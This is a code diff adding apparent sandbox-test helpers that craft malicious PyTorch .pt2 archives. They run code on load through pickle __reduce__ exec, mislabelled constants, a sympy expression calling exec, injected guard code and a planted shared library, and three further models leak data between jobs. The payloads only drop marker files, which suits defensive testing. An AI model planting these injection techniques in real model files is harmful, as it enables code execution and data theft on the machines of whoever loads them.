@@ -272,3 +272,206 @@ def preferred_mode() -> SandboxMode:
     from node.executor.sandbox_mode import runtime_paths, unreadable_by_others
 
     return SandboxMode.ROOT_USERNS if unreadable_by_others(runtime_paths()) else SandboxMode.UNPRIVILEGED_UID
+
+
+class _RunsPython:
+    """Unpickling this runs Python source (no shell needed, so it works in any sandbox)."""
+
+    def __init__(self, source: str) -> None:
+        self.source = source
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (exec, (self.source,))
+
+
+def marker_source(marker: str) -> str:
+    """Python that leaves `marker` behind: the proof that a payload ran."""
+    return f"open({marker!r}, 'w').close()"
+
+
+def python_pickle(source: str) -> bytes:
+    import pickle
+
+    return pickle.dumps({"weights": _RunsPython(source)}, protocol=2)
+
+
+def rewrite_program(clean: Path, path: Path, edit: Any) -> Path:
+    """`clean` with its members (named without the root folder) changed by `edit(members)`; an
+    edit that returns a dict replaces the whole archive with it (names taken as they are)."""
+    import zipfile
+
+    with zipfile.ZipFile(clean) as src:
+        root = src.namelist()[0].partition("/")[0]
+        members = {name.partition("/")[2]: src.read(name) for name in src.namelist()}
+    replaced = edit(members)
+    named = (
+        replaced if isinstance(replaced, dict) else {f"{root}/{name}": data for name, data in members.items()}
+    )
+    with zipfile.ZipFile(path, "w") as dst:
+        for name, data in named.items():
+            dst.writestr(name, data)
+    return path
+
+
+def _edit_json(members: dict[str, bytes], name: str, change: Any) -> None:
+    import json
+
+    tree = json.loads(members[name])
+    change(tree)
+    members[name] = json.dumps(tree).encode()
+
+
+def _add_constant(members: dict[str, bytes], fqn: str, entry: dict[str, object], data: bytes) -> None:
+    config = "data/constants/model_constants_config.json"
+    _edit_json(members, config, lambda tree: tree.setdefault("config", {}).__setitem__(fqn, entry))
+    members[f"data/constants/{entry['path_name']}"] = data
+
+
+def _raw_meta(size: int, dtype: int = 1) -> dict[str, object]:
+    return {
+        "dtype": dtype,
+        "sizes": [{"as_int": size}],
+        "requires_grad": False,
+        "device": {"type": "cpu", "index": None},
+        "strides": [{"as_int": 1}],
+        "storage_offset": {"as_int": 0},
+        "layout": 7,
+    }
+
+
+def plant_object_constant(members: dict[str, bytes], prefix: str, source: str) -> None:
+    """A constant named like an object (`opaque_obj_*`, `custom_obj_*`) holding a pickle that runs
+    `source`, flagged as a plain tensor (no `use_pickle`): torch unpickles it by its name alone."""
+    payload = python_pickle(source)
+    entry = {
+        "path_name": f"{prefix}_0",
+        "is_param": False,
+        "use_pickle": False,
+        "tensor_meta": _raw_meta(len(payload)),
+    }
+    _add_constant(members, "evil", entry, payload)
+
+
+def _object_constant(prefix: str) -> Any:
+    return lambda members, marker: plant_object_constant(members, prefix, marker_source(marker))
+
+
+def _pickled_tensor_constant(members: dict[str, bytes], marker: str) -> None:
+    entry = {"path_name": "tensor_9", "is_param": False, "use_pickle": True, "tensor_meta": _raw_meta(1, 7)}
+    _add_constant(members, "evil", entry, python_pickle(marker_source(marker)))
+
+
+def _pickled_weight(members: dict[str, bytes], marker: str) -> None:
+    config = "data/weights/model_weights_config.json"
+    _edit_json(members, config, lambda tree: tree["config"]["linear.weight"].__setitem__("use_pickle", True))
+    members["data/weights/weight_0"] = python_pickle(marker_source(marker))
+
+
+def _planted_file(name: str) -> Any:
+    def plant(members: dict[str, bytes], marker: str) -> None:
+        members[name] = python_pickle(marker_source(marker))
+
+    return plant
+
+
+def _legacy_zip_format(members: dict[str, bytes], marker: str) -> dict[str, bytes]:
+    return {
+        "version": b"8.20",
+        "serialized_exported_program.json": members["models/model.json"],
+        "serialized_state_dict.pt": b"",
+        "serialized_constants.pt": python_pickle(marker_source(marker)),
+        "serialized_example_inputs.pt": b"",
+    }
+
+
+def _aoti_library(members: dict[str, bytes], marker: str) -> None:
+    # torch dlopens what it finds here; an ELF constructor would run native code on load.
+    members["data/aotinductor/model/model.wrapper.so"] = b"\x7fELF" + marker.encode()
+
+
+def _sympy_expression(members: dict[str, bytes], marker: str) -> None:
+    source = marker_source(marker)
+    run = f"sympify.__globals__['__builtins__']['exec']({source!r})"
+    evil = f"{run} or Symbol('s77', positive=True, integer=True)"
+
+    def change(tree: dict[str, Any]) -> None:
+        tree["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = evil
+
+    _edit_json(members, "models/model.json", change)
+
+
+def _guard_code(members: dict[str, bytes], marker: str) -> None:
+    guard = f"__import__('os').close(__import__('os').open({marker!r}, 65)) is None"
+    _edit_json(members, "models/model.json", lambda tree: tree.__setitem__("guards_code", [guard]))
+
+
+# Each way the pinned torch's `torch.export.load` (and `.module()`) can unpickle, import or run
+# something from a `.pt2`: name -> (the edit that plants a payload leaving `marker`, whether the
+# payload is shown to run under torch's own loader; None where building one needs a compiler).
+CODE_PATHS: dict[str, tuple[Any, bool | None]] = {
+    "opaque_object_constant": (_object_constant("opaque_obj"), True),
+    "custom_object_constant": (_object_constant("custom_obj"), None),
+    "pickled_tensor_constant": (_pickled_tensor_constant, True),
+    "pickled_weight": (_pickled_weight, True),
+    "legacy_weights_file": (_planted_file("data/weights/model.pt"), True),
+    "legacy_constants_file": (_planted_file("data/constants/model.pt"), True),
+    "raw_pickle_sample_inputs": (_planted_file("data/sample_inputs/model.pt"), True),
+    "legacy_zip_format": (_legacy_zip_format, True),
+    "aotinductor_library": (_aoti_library, None),
+    "sympy_expression": (_sympy_expression, True),
+    "guard_code": (_guard_code, True),
+}
+
+
+def program_exploiting(path_name: str, clean: Path, out: Path, marker: str) -> Path:
+    """`clean` made to leave `marker` behind when loaded through the loader path `path_name`."""
+    plant = CODE_PATHS[path_name][0]
+    return rewrite_program(clean, out, lambda members: plant(members, marker))
+
+
+def _export(module: Any, path: Path, features: int = 4) -> Path:
+    import torch
+
+    batch = torch.export.Dim("batch", min=1, max=1024)
+    program = torch.export.export(module, (torch.randn(2, features),), dynamic_shapes=({0: batch},))
+    torch.export.save(program, str(path))
+    return path
+
+
+def remembering_program(path: Path) -> Path:
+    """Returns the input of the job before: copies each input into a buffer (a cross-job channel)."""
+    import torch
+
+    class Remembers(torch.nn.Module):
+        def __init__(self) -> None:
+            super().__init__()
+            self.register_buffer("last", torch.zeros(2, 4))
+
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            previous = self.last.clone()
+            self.last.copy_(x[:2])
+            return previous + 0 * x[:2]
+
+    return _export(Remembers(), path)
+
+
+def rolling_program(path: Path) -> Path:
+    """Hands each row the row before it: in a batch mixing clients, one client gets another's rows."""
+    import torch
+
+    class Rolls(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return torch.roll(x, 1, 0)
+
+    return _export(Rolls(), path)
+
+
+def uninitialized_program(path: Path) -> Path:
+    """Returns memory it never wrote: whatever the allocator hands back, a previous job's included."""
+    import torch
+
+    class Uninitialized(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return torch.empty_like(x)
+
+    return _export(Uninitialized(), path)
